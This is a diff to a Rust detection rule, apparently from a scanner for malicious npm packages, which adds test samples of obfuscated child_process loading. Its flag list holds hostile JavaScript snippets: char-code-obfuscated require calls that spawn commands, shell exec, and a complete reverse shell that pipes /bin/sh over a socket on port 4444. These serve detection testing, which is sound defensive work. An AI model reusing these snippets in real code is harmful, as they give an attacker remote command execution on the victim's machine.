@@ -17,10 +17,13 @@ crate::declare_rule! {
     incident: "ethers-provider2 (2025) piped /bin/sh to a net.Socket; coa/ua-parser-js (2021) ran droppers via child_process",
     case_file: "lib/index.js",
     flag: ["const cp = require('child_' + 'process'); cp.exec(cmd)",
+           "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c)).join(''); const cp = require(a); cp[['sp', 'awn'].join('')](dst, [])",
+           "const n = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map(function (c) { return String.fromCharCode(c) }).join(''); require(n).exec(x)",
            "import { spawn } from 'node:child_process'; spawn('sh', ['-c', x])",
            "const cp = require('child_process'); let mem; const imports = { env: { run(p, n) { cp.exec(Buffer.from(mem.buffer, p, n).toString()) } } }; WebAssembly.instantiate(bytes, imports)",
            "const net = require('net'); const {spawn} = require('child_process'); const c = new net.Socket(); c.connect(4444, h, () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });"],
-    pass: ["const cp = { exec() {} }; cp.exec('x')", "// require('child_process').exec(x)", "const s = 'child_process.exec is documented here'"],
+    pass: ["const cp = { exec() {} }; cp.exec('x')",
+           "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c + 1)).join(''); require(a).exec(x)", "// require('child_process').exec(x)", "const s = 'child_process.exec is documented here'"],
 }
 
 const SHELLS: &[&str] = &[
